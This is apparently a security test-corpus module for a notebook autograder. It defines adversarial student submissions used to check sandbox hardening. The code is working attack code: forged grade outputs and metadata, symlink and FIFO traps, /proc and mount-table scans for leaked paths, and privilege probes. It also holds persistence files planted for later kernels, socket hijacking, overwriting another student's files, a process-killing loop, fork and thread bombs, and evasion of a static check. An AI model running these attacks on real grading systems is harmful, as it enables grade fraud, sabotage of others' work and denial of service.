"""Submissions that attack through what they leave behind, each with its honest score (issue 15).

Where ``tests/corpus/attacks.py`` forges a grade from inside the kernel, these submissions try to reach a
grade, the grading machine or another student through what outlives their code: outputs of a test cell
that then dies or hangs (class 1), files, links and paths in and around the working folder (class 2),
the kernel's privileges and resources (class 3), and files planted for a later kernel (class 5). The
classes are those of issue 15 and of the threat-model table in ``autograder/README.md``.

Each :class:`Leftover` is code appended to the first answer cell of the ``example`` release (nothing
implemented: honest score 0) or, with ``correct=True``, of the correct submission (honest score
:data:`FULL`, every autograded point: the attack must not cost the student points it earned, nor earn any).
Attacks that find what they look for (a privilege, a leaked path, a file planted by another student) turn
``softmax`` into the identity, so that a hole shows up as ``softmax``'s points lost. Paths the attacks aim
at (a canary file outside the sandbox, the checkout, the output folder, other students' files) are put in
by :func:`leftover_notebook` from a :class:`Target`: an attacker who guesses them right.
``tests/test_grading_hardening.py`` grades them in real batches beside honest students.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass, field

import nbformat

from tests.nbutil import graded_points

#: The string every planted or forged file holds, so that a leak is recognised wherever it lands.
MARKER = "DLCV_PLANTED"
ASSIGNMENT = "example"
#: ``{test grade_id: points}`` of the example's autograded tests, and what its correct answers earn.
POINTS = graded_points(ASSIGNMENT)
FULL = sum(POINTS.values())


@dataclass(frozen=True)
class Target:
    """What an attacker aims at: paths outside the sandbox and facts of the grading machine."""

    canary_file: str  # a file outside the sandbox that nothing may change (content and mode)
    canary_dir: str  # a folder outside the sandbox that nothing may add to
    repo: str  # the checkout
    out: str  # grade's output folder (gradebook.db, grading/, autograded/, feedback/)
    lms: str  # the folder of submissions
    victim: str  # another student's id in the same batch
    hostname: str  # the grading machine's host name
    unprivileged: bool  # the grader is root, so the kernel must not be
    memory: int  # --memory-limit in bytes
    ipc_key: int | None = None  # a SysV shared-memory key that exists on the host, or None
    host_shm: str = ""  # a file in the host's /dev/shm

    @property
    def secrets(self) -> list[str]:
        """Paths whose mere mention inside the kernel is a leak."""
        return [self.repo, self.out, f"{self.out}/gradebook.db", self.lms]


@dataclass(frozen=True)
class Leftover:
    student: str
    attack_class: int  # 1, 2, 3 or 5 (issue 15)
    what: str  # one line for the README's table
    code: str  # appended to the first answer cell; ``@NAME@`` is replaced by the Target's field
    honest_score: float = 0.0
    correct: bool = False  # start from the correct submission (honest score FULL) instead of the release
    test_cell_metadata: dict = field(default_factory=dict)  # forged into every test cell, which is emptied


#: Finds the kernel's runtime folder (where its connection file and sockets are).
RUNTIME = """
import os as _os
def _runtime_folder():
    try:
        from ipykernel.connect import get_connection_file
        return _os.path.dirname(get_connection_file())
    except Exception:
        return None
"""

#: Makes ``softmax`` wrong when ``_found`` is not empty: a hole costs ``softmax``'s points.
SABOTAGE = """
print("found:", _found)
if _found:
    def softmax(scores):
        return scores
"""

#: The folders a kernel could leave something in for a later one.
PLACES = RUNTIME + """
import site as _site, sys as _sys
_home = _os.path.expanduser('~')
_pyver = f"python{_sys.version_info.major}.{_sys.version_info.minor}"
_places = sorted(set(filter(None, [
    *_sys.path, *_site.getsitepackages(), _site.getusersitepackages(), _os.getcwd(), _home, '/tmp', '/dev/shm',
    '/kit', '/kit/cs_lib', _runtime_folder(), _os.environ.get('TORCH_HOME'), _os.environ.get('DLCV_DATA'),
    _os.environ.get('MPLCONFIGDIR'), _os.path.join(_home, '.local', 'lib', _pyver, 'site-packages'),
    _os.path.join(_home, '.ipython', 'profile_default', 'startup'), _os.path.join(_home, '.config', 'matplotlib'),
    _os.path.join(_home, '.cache', 'torch', 'hub', 'checkpoints'), '/kit/cs_lib/__pycache__'])))
_plant_names = ['sitecustomize.py', 'usercustomize.py', 'dlcv_planted.pth', 'matplotlibrc', '00-dlcv_planted.py',
                'ipython_config.py', 'dlcv_planted.cpython-311.pyc', 'checks.cpython-311.pyc', 'hubconf.py',
                'fontlist-v390.json']
"""

LEFTOVERS: tuple[Leftover, ...] = (
    # ---- 1. a test cell's points come from the judge's verdict, and from nothing else ----------------------
    Leftover("forge-then-exit", 1,
             "every graded call prints a pass, an `execute_result` 2.0 and `display_data` with a forged "
             "`metadata.autograder`, then `os._exit(0)`",
             """
import os, sys, time
_ip = get_ipython()
def _forge_and_die(*args, **kwargs):
    _ip.display_pub.publish({'text/plain': '2.0'}, metadata={'autograder': {'outcome': 'ok', 'verdict': {
        'passed': True, 'message': 'hidden tests passed'}}})
    _ip.displayhook(2.0)
    print("softmax: hidden tests passed\\ntop_k_accuracy: hidden tests passed")
    sys.stdout.flush(); sys.stderr.flush(); time.sleep(0.5)
    os._exit(0)
_forge_and_die.__name__ = 'softmax'
def _install(*_):
    _ip.user_ns['softmax'] = _ip.user_ns['top_k_accuracy'] = _forge_and_die
_ip.events.register('post_run_cell', _install)
softmax = _forge_and_die
"""),
    Leftover("forge-then-hang-ignoring-interrupt", 1,
             "a graded call prints a pass and an `execute_result` 2.0, ignores SIGINT and `KeyboardInterrupt` "
             "and sleeps past the cell timeout",
             """
import signal, time
_ip = get_ipython()
def softmax(scores):
    _ip.display_pub.publish({'text/plain': '2.0'})
    _ip.displayhook(2.0)
    print("softmax: hidden tests passed", flush=True)
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        try:
            time.sleep(1)
        except BaseException:
            pass
"""),
    Leftover("forged-outputs-from-a-thread", 1,
             "a thread floods every cell, and the time between cells, with `execute_result` 2.0, a printed "
             "pass and `display_data` claiming full points",
             """
import threading, time
_ip = get_ipython()
def _flood():
    while True:
        try:
            _ip.display_pub.publish({'text/plain': '2.0'}, metadata={'nbgrader': {'score': 2, 'points': 2}})
            _ip.displayhook(2.0)
            print("softmax: hidden tests passed", flush=True)
        except Exception:
            pass
        time.sleep(0.01)
threading.Thread(target=_flood, daemon=True).start()
"""),
    Leftover("grader-named-exceptions", 1,
             "graded calls raise exceptions named `CellTimeoutError`, `KernelDied`, `CellNotRun` and an "
             "`AssertionError` subclass whose texts say the test passed, after an `execute_result` 2.0",
             """
import builtins
_ip = get_ipython()
CellTimeoutError = type('CellTimeoutError', (Exception,), {})
KernelDied = type('KernelDied', (Exception,), {})
CellNotRun = type('CellNotRun', (Exception,), {})
class AssertionError(builtins.AssertionError):
    pass
def softmax(scores):
    _ip.displayhook(2.0)
    raise CellTimeoutError('the cell did not finish within 30 s; softmax: hidden tests passed')
def _top_k(scores, y, k=1):
    _ip.displayhook(2.0)
    raise KernelDied('the kernel died (exit code 0); the grader restarted the kernel and went on with the next cell')
_top_k.__name__ = 'top_k_accuracy'
def _install(*_):
    _ip.user_ns['top_k_accuracy'] = _top_k
_ip.events.register('post_run_cell', _install)
_ip.events.register('pre_run_cell', lambda *_: None)
"""),
    Leftover("submitted-verdict-metadata", 1,
             "the file's test cells are emptied and carry `metadata.autograder` (outcome ok, verdict passed), "
             "an `execute_result` 2.0 and an execution count",
             "", test_cell_metadata={"autograder": {"outcome": "ok", "reason": None, "verdict": {
                 "grade_id": "@GRADE_ID@", "passed": True, "message": "hidden tests passed", "wrong_answer": "",
                 "hint": "", "finding": ""}}}),
    Leftover("clear-output-then-forge", 1,
             "after every cell, `clear_output()` wipes the failure and an `execute_result` 2.0 with "
             "`metadata.autograder` and an `update_display_data` are published instead",
             """
from IPython.display import clear_output, display
_ip = get_ipython()
def _after(result):
    clear_output()
    handle = display({'text/plain': '0.0'}, raw=True, display_id=True)
    handle.update({'text/plain': '2.0'}, raw=True)
    _ip.display_pub.publish({'text/plain': '2.0'}, metadata={'autograder': {'outcome': 'ok'}})
    _ip.displayhook(2.0)
_ip.events.register('post_run_cell', _after)
"""),
    # ---- 2. the grading process never follows anything the kernel made ------------------------------------
    Leftover("links-named-like-grader-files", 2,
             "symlinks and hard links named `example.ipynb`, `example.html`, `timestamp.txt`, "
             "`.ipynb_checkpoints`, `gradebook.db` (and its own connection file replaced by one) in every "
             "writable folder, pointing at a canary file and folder outside the sandbox, the gradebook and "
             "another student's submission; the folders chmod 777",
             RUNTIME + """
import os
_targets = ['@canary_file@', '@canary_dir@', '@out@/gradebook.db', '@lms@/@victim@_example.ipynb']
_names = ['example.ipynb', 'example.html', 'timestamp.txt', '.ipynb_checkpoints', 'gradebook.db', 'feedback',
          'example.json', 'submission.json']
for _place in filter(None, [os.getcwd(), os.path.expanduser('~'), '/tmp', '/dev/shm', _runtime_folder()]):
    for _i, _name in enumerate(_names):
        _p = os.path.join(_place, _name)
        try:
            if os.path.lexists(_p) and not os.path.isdir(_p):
                os.unlink(_p)
            os.symlink(_targets[_i % len(_targets)], _p)
        except OSError:
            pass
    for _t in _targets:
        try:
            os.link(_t, os.path.join(_place, 'hard-' + os.path.basename(_t)))
        except OSError:
            pass
    try:
        os.chmod(_place, 0o777)
    except OSError:
        pass
try:
    from ipykernel.connect import get_connection_file
    _cf = get_connection_file()
    os.unlink(_cf)
    os.symlink('@canary_file@', _cf)
except Exception:
    pass
""", honest_score=FULL, correct=True),
    Leftover("fifos-sockets-devices", 2,
             "FIFOs named `example.ipynb`, `timestamp.txt`, `.ipynb_checkpoints`, a listening Unix socket "
             "named `example.html`, device nodes (`mknod`) in every writable folder",
             RUNTIME + """
import os, socket, stat
_keep = []
for _place in filter(None, [os.getcwd(), '/tmp', '/dev/shm', _runtime_folder()]):
    for _name in ('example.ipynb', 'timestamp.txt', '.ipynb_checkpoints', 'example.json'):
        try:
            os.mkfifo(os.path.join(_place, _name))
        except OSError:
            pass
    try:
        _s = socket.socket(socket.AF_UNIX)
        _s.bind(os.path.join(_place, 'example.html'))
        _s.listen(1)
        _keep.append(_s)
    except OSError:
        pass
    for _name, _dev in (('gradebook.db', (1, 3)), ('disk', (8, 0))):
        try:
            os.mknod(os.path.join(_place, _name), stat.S_IFCHR | 0o666, os.makedev(*_dev))
        except OSError:
            pass
""", honest_score=FULL, correct=True),
    Leftover("environment-scan", 2,
             "looks for the checkout, output folder, gradebook and submissions folder in `os.environ`, the cwd, "
             "`sys.argv`, `sys.path`, the connection file, open descriptors and every `/proc/<pid>` it can see",
             RUNTIME + """
import os, sys, json
_secrets = @secrets@
_found = {}
def _look(where, text):
    for s in _secrets:
        if s and s in str(text):
            _found.setdefault(where, s)
_look('os.environ', json.dumps(dict(os.environ)))
_look('cwd', os.getcwd()); _look('HOME', os.path.expanduser('~'))
_look('sys.argv', ' '.join(sys.argv)); _look('sys.path', ' '.join(sys.path))
_look('sys.executable', sys.executable)
try:
    _look('ipython config', str(get_ipython().config))
except Exception:
    pass
_rt = _runtime_folder()
if _rt:
    _look('runtime folder', _rt)
    for _n in os.listdir(_rt):
        try:
            _look('runtime ' + _n, open(os.path.join(_rt, _n), errors='replace').read())
        except OSError:
            pass
for _pid in [p for p in os.listdir('/proc') if p.isdigit() or p == 'self']:
    for _f in ('cmdline', 'environ', 'cwd', 'root', 'exe'):
        _p = f'/proc/{_pid}/{_f}'
        try:
            _look(_p, os.readlink(_p) if _f in ('cwd', 'root', 'exe') else
                  open(_p, 'rb').read().decode('utf-8', 'replace'))
        except OSError:
            pass
    try:
        for _fd in os.listdir(f'/proc/{_pid}/fd'):
            try:
                _look(f'/proc/{_pid}/fd/{_fd}', os.readlink(f'/proc/{_pid}/fd/{_fd}'))
            except OSError:
                pass
    except OSError:
        pass
""" + SABOTAGE, honest_score=FULL, correct=True),
    Leftover("mount-table-scan", 2,
             "looks for the checkout, output folder and gradebook in `/proc/self/mountinfo` and `/proc/mounts` "
             "(a bind mount's source shows there)",
             """
_secrets = @secrets@
_found = {}
for _p in ('/proc/self/mountinfo', '/proc/self/mounts', '/proc/mounts', '/proc/1/mountinfo'):
    try:
        _text = open(_p).read()
    except OSError:
        continue
    for _line in _text.splitlines():
        for _s in _secrets:
            if _s in _line:
                _found.setdefault(_p, _line)
""" + SABOTAGE, honest_score=FULL, correct=True),
    Leftover("installed-package-paths", 2,
             "looks for the checkout, output folder and gradebook in the Python environment's files it can read: "
             "`.pth` files, editable-install finders, `direct_url.json`, `sys.modules` paths",
             """
import glob, os, site, sys
_secrets = @secrets@
_found = {}
_files = []
for _d in {*site.getsitepackages(), *sys.path}:
    _files += glob.glob(os.path.join(_d, '*.pth')) + glob.glob(os.path.join(_d, '__editable__*'))
    _files += glob.glob(os.path.join(_d, '*.dist-info', 'direct_url.json'))
for _p in _files:
    try:
        _text = open(_p, errors='replace').read()
    except OSError:
        continue
    for _s in _secrets:
        if _s in _text:
            _found.setdefault(_p, _s)
for _name, _module in list(sys.modules.items()):
    try:
        _where = str(_module.__dict__.get('__file__', '')) + str(_module.__dict__.get('__path__', ''))
    except Exception:
        continue
    for _s in _secrets:
        if _s in _where:
            _found.setdefault('module ' + _name, _s)
""" + SABOTAGE, honest_score=FULL, correct=True),
    Leftover("forged-notebook-in-working-folder", 2,
             "writes a graded-looking `example.ipynb` (test cells with `execute_result` 2.0 and "
             "`metadata.autograder` passed), `example.html` and `timestamp.txt` wherever it can",
             RUNTIME + """
import os, json
_cells = []
for _gid, _points in @POINTS@.items():
    _cells.append({'cell_type': 'code', 'execution_count': 1, 'source': '', 'outputs': [
        {'output_type': 'execute_result', 'execution_count': 1, 'data': {'text/plain': str(_points)}, 'metadata': {}}],
        'metadata': {'nbgrader': {'grade': True, 'grade_id': _gid, 'locked': True, 'points': _points,
                                  'solution': False, 'schema_version': 3, 'task': False},
                     'autograder': {'outcome': 'ok', 'verdict': {'grade_id': _gid, 'passed': True, 'message': 'ok'}}}})
_nb = json.dumps({'cells': _cells, 'metadata': {}, 'nbformat': 4, 'nbformat_minor': 5, 'DLCV_PLANTED': 1})
for _place in filter(None, [os.getcwd(), os.path.dirname(os.getcwd()), os.path.expanduser('~'), '/tmp',
                            _runtime_folder()]):
    for _name, _text in (('example.ipynb', _nb), ('example.html', '<p>4 / 4 DLCV_PLANTED</p>'),
                         ('timestamp.txt', '2020-01-01 00:00:00'), ('example.json', _nb)):
        try:
            with open(os.path.join(_place, _name), 'w') as _f:
                _f.write(_text)
        except OSError:
            pass
""".replace("@POINTS@", repr(POINTS))),
    # ---- 3. the kernel is an unprivileged process with bounded resources ----------------------------------
    Leftover("privilege-probe", 3,
             "looks for root (uid 0, `setuid(0)`, capabilities, no `no_new_privs`), `sethostname`, `mount`, "
             "`chroot`, `mknod`, writable `/proc/sys`, `/proc/sysrq-trigger`, `/sys`, system folders and "
             "`cs_lib`, the host's host name, SysV IPC and `/dev/shm`, a missing `RLIMIT_NPROC` or tmpfs `size=`",
             """
import ctypes, os, resource, socket, stat
_found = []
def _try(what, fn):
    try:
        fn()
        _found.append(what)
    except Exception:
        pass
_libc = ctypes.CDLL(None, use_errno=True)
if @unprivileged@ and 0 in (os.getuid(), os.geteuid(), os.getgid()):
    _found.append('runs as uid or gid 0')
_status = dict(l.split(':', 1) for l in open('/proc/self/status').read().splitlines() if ':' in l)
if int(_status['CapEff'].strip(), 16) or int(_status['CapPrm'].strip(), 16):
    _found.append('capabilities ' + _status['CapEff'].strip())
if _status.get('NoNewPrivs', '1').strip() != '1':
    _found.append('no_new_privs is off')
_try('setuid(0)', lambda: os.setuid(0))
_try('setgroups', lambda: os.setgroups([0]))
_try('sethostname', lambda: socket.sethostname('dlcv-pwned'))
if socket.gethostname() == '@hostname@':
    _found.append('sees the host name')
_try('mount tmpfs', lambda: _libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0 or 1 / 0)
_try('remount cs_lib rw', lambda: _libc.mount(None, b'/kit/cs_lib', None, 32 | 4096, None) == 0 or 1 / 0)
_try('chroot', lambda: os.chroot('/tmp'))
_try('mknod', lambda: os.mknod('/tmp/dlcv-null', stat.S_IFCHR | 0o666, os.makedev(1, 3)))
for _p in ('/proc/sysrq-trigger', '/proc/sys/kernel/hostname', '/proc/sys/kernel/domainname',
           '/proc/sys/kernel/core_pattern', '/proc/sys/vm/overcommit_memory', '/proc/sys/kernel/pid_max',
           '/sys/kernel/mm/transparent_hugepage/enabled', '/sys/class/net/lo/mtu'):
    if os.path.exists(_p):
        _try('opens for writing ' + _p, lambda p=_p: open(p, 'w').close())
for _d in ('/', '/usr', '/etc', '/kit/cs_lib', '/proc/sys', '/sys'):
    if os.path.isdir(_d):
        _try('writes into ' + _d, lambda d=_d: open(os.path.join(d, 'dlcv-written'), 'w').close())
_key = @ipc_key@
try:
    _shm = open('/proc/sysvipc/shm').read().split()
except OSError:
    _shm = []
if _key is not None and str(_key) in _shm:
    _found.append('sees the host SysV shared memory')
if '@host_shm@' and os.path.basename('@host_shm@') in os.listdir('/dev/shm'):
    _found.append("sees the host's /dev/shm")
_soft, _hard = resource.getrlimit(resource.RLIMIT_NPROC)
if @unprivileged@ and (_soft == resource.RLIM_INFINITY or _soft > 100000):
    _found.append(f'RLIMIT_NPROC {_soft}')
for _d in ('/tmp', '/dev/shm', os.getcwd()):
    _v = os.statvfs(_d)
    if _v.f_blocks * _v.f_frsize > @memory@:
        _found.append(f'{_d} holds {_v.f_blocks * _v.f_frsize} bytes, more than the memory limit')
""" + SABOTAGE, honest_score=FULL, correct=True),
    # ---- 5. one student never changes another's score -------------------------------------------------------
    Leftover("planter", 5,
             "plants `sitecustomize.py`, `usercustomize.py`, a `.pth`, `matplotlibrc`, an IPython startup file, "
             "`ipython_config.py`, `__pycache__` files, a torch hub `hubconf.py` and a font cache in every "
             "folder on `sys.path`, its home, `/tmp`, `/dev/shm`, the runtime folder, `cs_lib` and the caches",
             PLACES + """
_payload = ("import os, builtins\\n"
            "if os.environ.get('USER') == 'student':\\n"
            "    builtins.DLCV_PLANTED = __name__\\n")
_planted = []
for _d in _places:
    for _n in _plant_names:
        _p = _os.path.join(_d, _n)
        try:
            _os.makedirs(_d, exist_ok=True)
            with open(_p, 'w') as _f:
                _f.write('import builtins; builtins.DLCV_PLANTED = 1\\n' if _n.endswith('.pth') else _payload)
            _planted.append(_p)
        except OSError:
            pass
print('planted', len(_planted), 'files:', _planted)
""", honest_score=FULL, correct=True),
    Leftover("judge-socket-thief", 5,
             "a thread that every 50 ms connects to every Unix socket it can find (`/proc/net/unix`, `*.sock` and "
             "`judge*` under `/tmp`, `/run`, `/home`, `/dev/shm`) and sends garbage, to claim another student's judge "
             "window; it reports the judge sockets it saw",
             """
import json, os, socket, threading, time
def _sockets():
    paths = set()
    try:
        for line in open('/proc/net/unix').read().splitlines()[1:]:
            parts = line.split()
            if len(parts) >= 8:
                paths.add(parts[7])
    except OSError:
        pass
    for root in ('/tmp', '/run', '/var/run', '/home', '/dev/shm'):
        for folder, dirs, files in os.walk(root):
            paths.update(os.path.join(folder, n) for n in files + dirs if n.endswith('.sock') or 'judge' in n)
    return paths
print('JUDGES ' + json.dumps(sorted(p for p in _sockets() if 'judge' in p)), flush=True)
def _thief():
    while True:
        for path in _sockets():
            try:
                s = socket.socket(socket.AF_UNIX)
                s.settimeout(0.2)
                s.connect('\\0' + path[1:] if path.startswith('@') else path)
                s.sendall(b'\\0' * 64)
                s.close()
            except OSError:
                pass
        time.sleep(0.05)
threading.Thread(target=_thief, daemon=True).start()
"""),
    Leftover("cross-writer", 5,
             "overwrites another student's submission, result, stamp and feedback, the gradebook, the "
             "checkout's sources, references and `cs_lib`, at their real paths; SIGKILLs every process it sees",
             """
import glob, os, signal
_paths = ['@lms@/@victim@_example.ipynb', '@out@/grading/example/@victim@.json',
          '@out@/grading/example/@victim@.input', '@out@/gradebook.db', '@out@/grades.csv',
          '@out@/feedback/@victim@/example/example.html', '@out@/autograded/@victim@/example/example.ipynb',
          '@repo@/assignments/source/example/example.ipynb', '@repo@/cs_lib/checks.py',
          '@repo@/cs_lib/grading/judge_client.py', '@repo@/autograder/judging/judge.py', '@canary_file@']
_paths += glob.glob('@repo@/autograder/references/example*') + glob.glob('/tmp/dlcv-grader-*/**', recursive=True)
for _p in _paths:
    try:
        with open(_p, 'w') as _f:
            _f.write('forged by a student DLCV_PLANTED')
    except OSError:
        pass
    try:
        os.chmod(_p, 0o777)
    except OSError:
        pass
for _pid in range(2, 5000):
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError:
        pass
"""),
)

#: Graded in a later run than the planter (a resumed run on the same output folder): nothing planted reaches it.
READER = Leftover(
    "reader", 5,
    "graded in a later, resumed run: looks for everything `planter` planted, and for its marker in its own "
    "interpreter",
    PLACES + """
import builtins, glob
_found = []
if hasattr(builtins, 'DLCV_PLANTED'):
    _found.append('DLCV_PLANTED ran: ' + str(builtins.DLCV_PLANTED))
_found += [name for name in _sys.modules if 'dlcv_planted' in name]
for _d in _places:
    for _p in [*(_os.path.join(_d, _n) for _n in _plant_names), *glob.glob(_os.path.join(_d, '*'))]:
        try:
            if (_os.path.isfile(_p) and _os.path.getsize(_p) < 10_000_000
                    and 'DLCV_PLANTED' in open(_p, errors='replace').read()):
                _found.append(_p)
        except OSError:
            pass
""" + SABOTAGE, honest_score=FULL, correct=True)

#: Graded in their own batch, with a small memory limit: they attack the machine's resources.
RESOURCE_ATTACKS: tuple[Leftover, ...] = (
    Leftover("fork-bomb", 3,
             "a fork bomb (every child forks again, named `dlcv-bomb`, sleeping between tries)",
             """
import ctypes, os, time
_libc = ctypes.CDLL(None)
_made = 0
def _child():
    _libc.prctl(15, b'dlcv-bomb', 0, 0, 0)
    end = time.monotonic() + 120
    while time.monotonic() < end:
        try:
            if os.fork() == 0:
                _libc.prctl(15, b'dlcv-bomb', 0, 0, 0)
        except OSError:
            time.sleep(0.2)
    os._exit(0)
for _ in range(100_000):
    try:
        _pid = os.fork()
    except OSError as _e:
        print('fork refused after', _made, 'children:', _e, flush=True)
        break
    if _pid == 0:
        _child()
    _made += 1
"""),
    Leftover("thread-bomb", 3,
             "starts sleeping threads until refused, and reports how many it got",
             """
import threading, time
_threads = 0
try:
    for _ in range(100_000):
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        _threads += 1
except (RuntimeError, MemoryError):
    pass
finally:
    print('THREADS', _threads, flush=True)
"""),
    Leftover("fill-every-tmpfs", 3,
             "writes 64 MiB files to `/tmp`, `/dev/shm`, its working folder and home until refused (several GiB "
             "asked), reports the bytes, then writes 8 MiB into its runtime folder",
             RUNTIME + """
import json, os
_written = {}
_chunk = b'x' * (4 << 20)
for _place in ('/tmp', '/dev/shm', os.getcwd()):
    try:
        for _i in range(64):
            with open(os.path.join(_place, f'fill-{_i}'), 'wb') as _f:
                for _ in range(16):
                    _f.write(_chunk)
    except OSError:
        pass
    _written[_place] = sum(os.path.getsize(os.path.join(_place, n)) for n in os.listdir(_place)
                           if n.startswith('fill-'))
print('WRITTEN ' + json.dumps(_written), flush=True)
_rt = _runtime_folder()
if _rt:
    with open(os.path.join(_rt, 'fill'), 'wb') as _f:
        _f.write(_chunk * 2)
    import time
    time.sleep(5)
"""),
    Leftover("huge-outputs", 3,
             "after defining correct answers: a 40 MB exception text (and traceback), then in every later cell "
             "15 MB of `display_data` metadata, 10 MB of HTML and 5 MB of stderr",
             """
import sys
_ip = get_ipython()
def _flood(*_):
    _ip.display_pub.publish({'text/plain': 'x'}, metadata={'junk': 'y' * 15_000_000})
    _ip.display_pub.publish({'text/plain': '2.0', 'text/html': '<b>' + 'h' * 10_000_000 + '</b>'})
    for _ in range(5):
        sys.stderr.write('z' * 1_000_000)
_ip.events.register('post_run_cell', _flood)
raise ValueError('e' * 40_000_000)
""", honest_score=FULL, correct=True),
    Leftover("display-updates-and-widgets", 3,
             "after defining correct answers: a small output with a `display_id`, then 20 MB `update_display_data` "
             "messages and a 40 MB `display_data` with the same `display_id`, and 20 widget `comm_open` messages "
             "of 2 MB state each",
             """
from IPython.display import display
_ip = get_ipython()
display({'text/plain': 'small'}, raw=True, display_id='dlcv-grow')
for _ in range(3):
    _ip.display_pub.publish({'text/plain': 'u' * 20_000_000}, transient={'display_id': 'dlcv-grow'}, update=True)
_ip.display_pub.publish({'text/plain': 'd' * 20_000_000, 'text/html': 'h' * 20_000_000},
                        transient={'display_id': 'dlcv-grow'})
try:
    from comm import create_comm
    for _ in range(20):
        create_comm(target_name='jupyter.widget', data={'state': {
            '_model_name': 'DLCVModel', '_model_module': 'dlcv', '_model_module_version': '1', 'junk': 'w' * 2_000_000},
            'buffer_paths': []})
except Exception as _e:
    print('no comm:', _e)
""", honest_score=FULL, correct=True),
    Leftover("hostile-judge-frames", 3,
             "correct answers, but every reply to the judge is a raw frame: a million values, 100,000 tensors, "
             "a tensor of 2^40 elements, a list nested 100,000 deep; the client is patched through names computed at "
             "run time, past the static policy check (honest 0: the judge never sees an answer)",
             """
import importlib, itertools, json, struct
# Names computed at run time: the attack is on the judge's frame bounds, not on the static policy check.
judge_client = importlib.import_module(''.join(['cs_lib.grading.', 'judge_client']).strip())
wire = importlib.import_module(''.join(['cs_lib.grading.', 'wire']).strip())
def _frame(text, buffers=b''):
    text = text.encode()
    return wire.MAGIC + struct.pack('<Q', len(text)) + text + buffers
_values = '{"__dict__":{"ok":true,"output":[' + ','.join(['0'] * 1_000_000) + ']}}'
_tensors = ('{"__dict__":{"ok":true,"output":[' + ','.join(
    f'{{"__tensor__":{i},"dtype":"float32","shape":[0],"nbytes":0}}' for i in range(100_000)) + ']}}')
_huge = '{"__dict__":{"ok":true,"output":{"__tensor__":0,"dtype":"float32","shape":[1048576,1048576],"nbytes":4}}}'
_deep = '{"__dict__":{"ok":true,"output":' + '[' * 100_000 + ']' * 100_000 + '}}'
_frames = itertools.cycle([lambda: _frame(_values), lambda: _frame(_tensors),
                           lambda: _frame(_huge, b'\\0' * 4), lambda: _frame(_deep)])
setattr(judge_client, ''.join(['encode', '_reply']).strip(), lambda reply: next(_frames)())
""", correct=True),
)


def fill(code: str, target: Target) -> str:
    """``code`` with each ``@field@`` replaced by the target's field (``repr`` for non-strings)."""
    for name in ("canary_file", "canary_dir", "repo", "out", "lms", "victim", "hostname", "host_shm"):
        code = code.replace(f"@{name}@", getattr(target, name))
    for name in ("unprivileged", "memory", "ipc_key", "secrets"):
        code = code.replace(f"@{name}@", repr(getattr(target, name)))
    return code


def leftover_notebook(release: nbformat.NotebookNode, correct: nbformat.NotebookNode, attack: Leftover,
                      target: Target) -> nbformat.NotebookNode:
    """The submission of ``attack``: the release (or the correct submission) with the attack put in."""
    nb = copy.deepcopy(correct if attack.correct else release)
    if attack.code:
        cell = next(c for c in nb.cells if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution"))
        cell.source = cell.source.rstrip() + "\n\n\n" + fill(attack.code, target).strip() + "\n"
    if attack.test_cell_metadata:
        for cell in nb.cells:
            info = cell.metadata.get("nbgrader", {})
            if cell.cell_type == "code" and info.get("grade") and not info.get("solution"):
                gid = info["grade_id"]
                cell.metadata.update(json.loads(json.dumps(attack.test_cell_metadata).replace("@GRADE_ID@", gid)))
                cell.source = ""
                cell.execution_count = 1
                cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "2.0"}, execution_count=1)]
    return nb
